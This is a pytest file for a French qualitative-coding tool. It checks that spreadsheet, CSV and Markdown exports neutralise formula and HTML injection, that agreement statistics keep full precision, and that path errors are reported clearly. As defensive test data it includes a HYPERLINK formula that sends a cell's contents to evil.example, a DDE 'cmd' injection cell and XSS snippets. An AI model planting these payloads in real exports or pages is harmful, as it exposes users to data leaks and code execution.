"""Issue 20, items 18-20 and 26: what the tool writes cannot run in a spreadsheet or a
Markdown viewer, and scripts get statistics whole."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from sklearn.metrics import cohen_kappa_score

from ptce_coding.app.project import find_project
from ptce_coding.base.records import Coding
from tests.test_agreement_cli import segment_spans, write_codings

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8"))))


@pytest.mark.slow  # the French spaCy model
def test_code_labels_are_text_in_the_header_cells_of_the_report_workbook(
    invoke, tmp_project: Path
) -> None:
    """Item 18. On main the header « =1+2 » of matrices.xlsx was stored as a live formula."""
    codebook = tmp_project / "codebooks" / "ptce.yaml"
    text = codebook.read_text("utf-8")
    text = text.replace("label: Mutualisation de locaux", "label: '=1+2'")
    codebook.write_text(text.replace("label: Coopération", "label: '=SUM(9,9)'"), "utf-8")
    assert invoke("import", str(tmp_project / "corpus")).exit_code == 0
    assert invoke("code").exit_code == 0
    result = invoke("report", "--include-suggestions")
    assert result.exit_code == 0, result.output
    workbook = openpyxl.load_workbook(tmp_project / "outputs" / "report" / "matrices.xlsx")
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    headers = {cell.value for sheet in workbook.worksheets for cell in sheet[1]}
    assert {"=1+2", "=SUM(9,9)"} <= headers  # the labels, as text


def test_csv_exports_escape_cells_a_spreadsheet_would_evaluate(invoke, tmp_project: Path) -> None:
    """Item 19. On main the CSV cells of codings export, segments export and the matrices began
    with = + - @ as written."""
    (tmp_project / "corpus" / "=pole-c").mkdir()
    (tmp_project / "corpus" / "=pole-c" / "tableur.txt").write_text(
        "Enquêteur : Une question ?\n\n"
        "Jean : =cmd|' /C calc'!A0 et des locaux partagés.\n\n"
        "Jean : +33 6 12 34 56 78, mon numéro.\n\n"
        "Jean : @SUM(1) puis -2+3 dans le tableau.\n",
        "utf-8",
    )
    assert invoke("import", str(tmp_project / "corpus")).exit_code == 0
    with find_project(tmp_project).open_store() as store:
        text = store.document("=pole-c/tableur.txt").text
        start = text.index("=cmd")
        store.add_codings(
            [Coding("=pole-c/tableur.txt", start, start + 10, "COOP.LIEU", "anne", memo=FORMULA)]
        )
    codings = tmp_project / "codages.csv"
    assert invoke("codings", "export", str(codings)).exit_code == 0
    segments = tmp_project / "segments.csv"
    assert invoke("segments", "export", str(segments)).exit_code == 0
    assert invoke("matrix", "--rows", "case").exit_code == 0
    matrices = sorted((tmp_project / "outputs" / "matrices").glob("*.csv"))
    assert matrices
    cells = [
        cell for path in [codings, segments, *matrices] for row in csv_rows(path) for cell in row
    ]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")] == []
    exported = dict(zip(*csv_rows(codings), strict=True))
    assert exported["memo"] == "'" + FORMULA
    assert exported["text"] == "'=cmd|' /C "
    assert exported["document"] == "'=pole-c/tableur.txt"
    segment_texts = [row[6] for row in csv_rows(segments)]  # the text, before code, coder
    assert "'+33 6 12 34 56 78, mon numéro." in segment_texts
    assert "'@SUM(1) puis -2+3 dans le tableau." in segment_texts
    assert any(row[0] == "'=pole-c" for path in matrices for row in csv_rows(path))
    # the quote is the export's: `codings import` reads the file back as it was
    back = invoke("codings", "import", str(codings))
    assert back.exit_code == 0, back.output
    with find_project(tmp_project).open_store() as store:
        rows = [r for r in store.coding_rows() if r.coder == "anne"]
    assert [(r.document, r.memo) for r in rows] == [("=pole-c/tableur.txt", FORMULA)]


def test_memo_export_shows_html_as_text(invoke, tmp_project: Path) -> None:
    """Item 20. On main memos.md carried « <script> » and « <img onerror> » as written."""
    assert invoke("import", str(tmp_project / "corpus")).exit_code == 0
    body = 'Voir <script>alert("x")</script> et <img src=x onerror=alert(1)> & co.'
    assert invoke("memo", "add", "--code", "COOP", "--title", "<b>titre</b>", body).exit_code == 0
    out = tmp_project / "memos.md"
    assert invoke("memo", "export", str(out)).exit_code == 0
    text = out.read_text("utf-8")
    assert "<script" not in text and "<img" not in text and "<b>" not in text
    assert (
        'Voir &lt;script&gt;alert("x")&lt;/script&gt; et &lt;img src=x onerror=alert(1)&gt; '
        "&amp; co." in text
    )
    assert "— &lt;b&gt;titre&lt;/b&gt;" in text


def test_agreement_gives_scripts_full_precision_and_tables_round(invoke, tmp_project: Path) -> None:
    """Item 26. On main JSON and CSV said 0.6154 for a kappa of 8/13."""
    assert invoke("import", str(tmp_project / "corpus")).exit_code == 0
    spans = segment_spans(invoke, tmp_project)
    alice = [("ECO.PUBLIC", "a2"), ("ECO.PUBLIC", "a5"), ("ECO.PUBLIC", "b4")]
    bob = [("ECO.PUBLIC", "a5"), ("ECO.PUBLIC", "b4")]
    for coder, items in (("alice", alice), ("bob", bob)):
        path = tmp_project / f"{coder}.csv"
        write_codings(path, coder, items, spans)
        assert invoke("codings", "import", str(path)).exit_code == 0
    expected = cohen_kappa_score([1, 0, 1, 0, 1], [0, 0, 1, 0, 1])
    assert abs(expected - 8 / 13) < 1e-12
    args = ("agreement", "--coders", "alice,bob", "--codes", "ECO.PUBLIC")
    rows = json.loads(invoke(*args, "--format", "json").stdout)
    row = next(r for r in rows if r["code"] == "ECO.PUBLIC")
    assert row["cohen_kappa"] == expected  # every digit
    table = list(csv.DictReader(io.StringIO(invoke(*args, "--format", "csv").stdout)))
    assert float(next(r for r in table if r["code"] == "ECO.PUBLIC")["cohen_kappa"]) == expected
    printed = invoke(*args).stdout
    assert "0.6154" in printed and "0.61538" not in printed  # tables may round


def test_a_folder_where_an_output_file_goes_is_a_clear_error(invoke, tmp_project: Path) -> None:
    """`matrix` writes outputs/matrices/case-x-code-….csv: a folder of that name (a mistaken
    unzip, a synced copy) made os.replace fail after the work, with a traceback."""
    assert invoke("import", str(tmp_project / "corpus")).exit_code == 0
    first = invoke("matrix", "--status", "all")
    assert first.exit_code == 0, first.output
    written = sorted((tmp_project / "outputs" / "matrices").glob("*.csv"))
    assert written
    written[0].unlink()
    written[0].mkdir()
    result = invoke("matrix", "--status", "all")
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert f"{written[0].name}: is a folder, where a file is to be written" in result.output
    assert "Move or rename that folder, or choose another file name." in result.output
    assert written[0].is_dir()
